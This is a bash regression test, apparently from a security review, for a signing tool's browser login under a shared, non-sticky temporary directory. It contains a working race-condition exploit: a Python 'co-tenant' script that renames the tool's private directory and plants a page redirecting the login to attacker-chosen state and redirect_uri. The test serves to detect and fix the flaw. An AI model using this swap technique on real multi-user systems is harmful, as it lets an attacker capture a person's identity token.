#!/bin/bash
# login_page_swap.sh BIN (review finding, kept as a test) -- MEDIUM: browser login start page handed to the browser by PATH under a
# co-tenant-writable, non-sticky TMPDIR (or XDG_RUNTIME_DIR). Expected (docs/signing.md "Token": the page
# is private, no co-tenant can turn what the launcher gets into the login): the browser reaches only our
# authorization URL. Actual: a co-tenant (uid nobody) renames our 0700 mkdtemp directory (same parent:
# no write permission on it needed) and puts its own directory + login.html at the path; the browser
# follows the ATTACKER page (their state, PKCE and redirect_uri) -> the person logs in and the code goes to
# the co-tenant: an identity token for the person. Sticky /tmp is safe; 0777/2775 shared dirs are not.
# Same with XDG_RUNTIME_DIR owned by another user (sudo -E / su keeping theirs): its owner swaps it.
# exit 1 while the bug is present, 0 once fixed.
# swap.sh BIN: TMPDIR is a shared, non-sticky 0777 directory; a co-tenant swaps the private page's directory
AE=$1
AE_BIN=$AE
. "$(dirname "$0")/../lib.sh" # free_port, login_idp_start (the stand-in provider), cleanup at exit
# the co-tenant must reach into it: not lib.sh's private T_WORK
W=$(mktemp -d "${TMPDIR:-/tmp}/ae-e2e-guard-login-XXXXXX"); chmod 0755 "$W"; t_cleanup "rm -rf '$W'"
login_idp_start
IP=$IDP_PORT
SH=$W/shared; mkdir -p $SH; chmod 0777 $SH
mkdir -p $W/bin
cat > $W/bin/xdg-open <<'PY'
#!/usr/bin/env python3
import os, re, sys, time, html, json
time.sleep(float(os.environ.get("B_DELAY", "0.5")))
p = sys.argv[1]; p = p[7:] if p.startswith("file://") else p
try:
    t = open(p).read()
    m = re.search(r'url=([^"]*)"', t)
    json.dump({"arg": sys.argv[1], "auth": html.unescape(m.group(1)) if m else "", "text": t[:300]}, open(os.environ["B_OUT"], "w"))
except Exception as e:
    json.dump({"arg": sys.argv[1], "err": str(e)}, open(os.environ["B_OUT"], "w"))
PY
chmod +x $W/bin/xdg-open
cat > $W/cotenant.py <<'PY'
import glob, os, sys, time
sh = sys.argv[1]
end = time.time() + 20
while time.time() < end:
    for d in os.listdir(sh):
        p = os.path.join(sh, d)
        if os.path.isdir(p) and not d.startswith("evil"):
            try:
                os.rename(p, os.path.join(sh, "evil-moved-" + d))
                os.mkdir(p, 0o755)
                open(os.path.join(p, "login.html"), "w").write('<meta http-equiv="refresh" content="0; url=http://127.0.0.1:1/auth?state=ATTACKER-STATE&amp;redirect_uri=http://127.0.0.1:1/cb">')
                for f in os.listdir(os.path.join(sh, "evil-moved-" + d)):
                    pass
                print("swapped", d); sys.exit(0)
            except OSError as e:
                print("fail", d, e); sys.exit(0)
    time.sleep(0.002)
print("nothing seen")
PY
chmod 0755 $W $W/cotenant.py
if [ "$(id -u)" = 0 ]; then OTHER="setpriv --reuid=65534 --regid=65534 --clear-groups"; else OTHER=""; fi
$OTHER /usr/bin/python3 $W/cotenant.py $SH > $W/cot.out 2>&1 &
CT=$!
echo data > $W/a.txt
env -u SIGSTORE_ID_TOKEN -u XDG_RUNTIME_DIR TMPDIR=$SH PATH="$W/bin:$PATH" DISPLAY=:99 XDG_CACHE_HOME="$W/xdg" B_OUT=$W/browser.json \
	timeout "$(t_secs 60)" "$AE" sigstore sign-bundle --bundle "$W/out.json" --oidc-provider browser \
	--oidc-issuer "http://127.0.0.1:$IP" --oidc-timeout "$(t_secs 10)s" --fulcio-url "http://127.0.0.1:$IP" \
	--rekor-url "http://127.0.0.1:$IP" "$W/a.txt" >$W/out 2>$W/err; rc=$?
wait $CT
echo "tool rc=$rc; cotenant: $(cat $W/cot.out)"; head -c 300 $W/err; echo
cat $W/browser.json 2>/dev/null; echo
if grep -q ATTACKER-STATE $W/browser.json 2>/dev/null; then echo "BUG: the person's browser followed the co-tenant's page"; exit 1; fi
# fixed means the browser was still started, on a page outside the shared directory, leading to our login
arg=$(jq -r '.arg // empty' "$W/browser.json" 2>/dev/null)
auth=$(jq -r '.auth // empty' "$W/browser.json" 2>/dev/null)
case $arg in "" | "$SH"/*) echo "the browser got no page, or one in the shared directory: $arg"; exit 1 ;; esac
case $auth in "http://127.0.0.1:$IP/auth?"*state=*) ;; *) echo "the page does not lead to our login: $auth"; exit 1 ;; esac
exit 0
